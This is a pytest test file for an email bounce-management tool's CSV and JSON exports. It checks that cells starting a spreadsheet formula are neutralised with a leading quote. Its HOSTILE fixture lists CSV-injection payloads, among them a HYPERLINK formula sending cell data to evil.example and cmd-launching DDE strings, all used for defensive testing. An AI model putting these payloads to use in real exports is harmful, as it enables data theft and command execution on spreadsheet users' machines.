"""Exports write a stranger's text (a server's words, subjects, even addresses) as inert cells;
`scrub` copies the user's own list byte for byte. Real store file, real CLI, read back with csv."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from bouncedesk import store
from bouncedesk.cli.main import main
from bouncedesk.lists.csvtext import inert_cell

T = 1_700_000_000
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\uff1d1+1",
]


def _add(conn, i: int, email: str, *, diagnostic: str = "", subject: str = "", msgid: str = "",
         state: str = "suppressed", why: str = "") -> None:  # fmt: skip
    """A recipient and one bounce about it, written straight into the store's tables."""
    domain = email.rsplit("@", 1)[-1]
    conn.execute(
        "INSERT INTO recipients(email, domain, state, state_reason, last_status, last_reason, bounces,"
        " first_seen_at, updated_at, last_event_at, last_seen_at) VALUES (?,?,?,?,?,?,?,?,?,?,?)",
        (email, domain, state, why, "5.1.1", "userunknown", 1, T, T, T, T),
    )
    rid = conn.execute("SELECT id FROM recipients WHERE email = ?", (email,)).fetchone()[0]
    conn.execute(
        "INSERT INTO messages(id, content_hash, source_key, received_at, outcome, raw_size, parsed_at,"
        " orig_message_id, orig_subject) VALUES (?,?,?,?,?,?,?,?,?)",
        (i, bytes([i]) * 32, f"test:{i}", T, "report", 10, T, msgid, subject),
    )
    conn.execute(
        "INSERT INTO results(message_id, idx, kind, recipient_id, email, domain, status, reason, hard,"
        " diagnostic, at) VALUES (?,?,?,?,?,?,?,?,?,?,?)",
        (i, 0, "bounce", rid, email, domain, "5.1.1", "userunknown", 1, diagnostic, T + i),
    )


@pytest.fixture
def hostile_store(data_dir: Path) -> Path:
    conn = store.open_store(data_dir)
    with store.transaction(conn):
        _add(conn, 1, "=1+1@example.com", diagnostic=HOSTILE[0], subject=HOSTILE[1], msgid=HOSTILE[2],
             why=HOSTILE[3])  # fmt: skip
        for n, text in enumerate(HOSTILE[3:], start=2):
            _add(conn, n, f"user{n}@example.org", diagnostic=text, subject=text, msgid=text, why=text)
        _add(conn, 20, "plain@example.net", diagnostic="550 5.1.1 <plain@example.net>: user unknown",
             subject="Your order #42 - shipped", msgid="<order-42@shop.example>", why="user")  # fmt: skip
    conn.close()
    return data_dir


def _cells(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("what", ["bounces", "suppressions"])
def test_no_exported_cell_starts_a_formula(capsys, hostile_store: Path, tmp_path: Path, what: str) -> None:
    out = tmp_path / f"{what}.csv"
    assert main(["export", what, "-o", str(out)]) == 0
    rows = _cells(out)
    assert len(rows) == 7
    for row in rows:
        for key, cell in row.items():
            assert not cell.lstrip().startswith(FORMULA_START), (key, cell)
            assert not cell.startswith(("\t", "\r")), (key, cell)
    # The hostile text is all still there, behind one quote; nothing was cut or changed.
    first = next(r for r in rows if "1+1@example.com" in r["email"])
    assert first["email"] == "'=1+1@example.com"
    if what == "bounces":
        assert first["diagnostic"] == "'" + HOSTILE[0]
        assert first["original_subject"] == "'" + HOSTILE[1]
        assert first["original_message_id"] == "'" + HOSTILE[2]
    else:
        assert first["why"] == "'" + HOSTILE[3]


def test_ordinary_values_round_trip_unchanged(capsys, hostile_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "b.csv"
    assert main(["export", "bounces", "-o", str(out)]) == 0
    plain = next(r for r in _cells(out) if r["email"] == "plain@example.net")
    assert plain == {
        "email": "plain@example.net", "at": "2023-11-14T22:13:40Z", "status": "5.1.1", "reply_code": "",
        "reason": "userunknown", "hard": "True", "side": "", "diagnostic": "550 5.1.1 <plain@example.net>: user unknown",
        "original_message_id": "<order-42@shop.example>", "original_subject": "Your order #42 - shipped",
    }  # fmt: skip


def test_json_export_keeps_the_values_as_they_are(capsys, hostile_store: Path, tmp_path: Path) -> None:
    """JSON is for programs, not spreadsheets: the data stays exact there."""
    import json

    out = tmp_path / "b.json"
    assert main(["export", "bounces", "--format", "json", "-o", str(out)]) == 0
    rows = json.loads(out.read_text(encoding="utf-8"))
    assert {r["diagnostic"] for r in rows} >= set(HOSTILE[3:])


def test_inert_cell_rules() -> None:
    for text in HOSTILE:
        assert inert_cell(text) == "'" + text
    for text in ("user@example.com", "5.1.1", "2024-01-01T00:00:00Z", "Order 4-2", "", "a=b"):
        assert inert_cell(text) == text
    assert inert_cell(-3) == -3 and inert_cell(None) is None and inert_cell(True) is True


def test_scrub_copies_the_users_rows_byte_for_byte(capsys, data_dir: Path, tmp_path: Path) -> None:
    """The user's own list, formulas, odd quoting, CRLF, blank lines and all, minus one address."""
    conn = store.open_store(data_dir)
    with store.transaction(conn):
        _add(conn, 1, "gone@example.com")
    conn.close()
    rows = [
        'name,email,"note"\r\n',
        '"Ann","ann@example.org","=SUM(A1:A3)"\r\n',
        "Bob,gone@example.com,+49 170 1234567\r\n",
        '"Carl ""CJ""",carl@example.net,"-5 discount, ""vip"""\r\n',
        "\r\n",
        '"Dora",dora@example.org,"two\r\nlines"\r\n',
        "Eve,eve@example.com,@home",
    ]
    src = tmp_path / "list.csv"
    src.write_bytes("".join(rows).encode("utf-8"))
    dst = tmp_path / "clean.csv"
    assert main(["scrub", str(src), "-o", str(dst), "--quiet"]) == 0
    assert dst.read_bytes() == "".join(r for r in rows if "gone@" not in r).encode("utf-8")
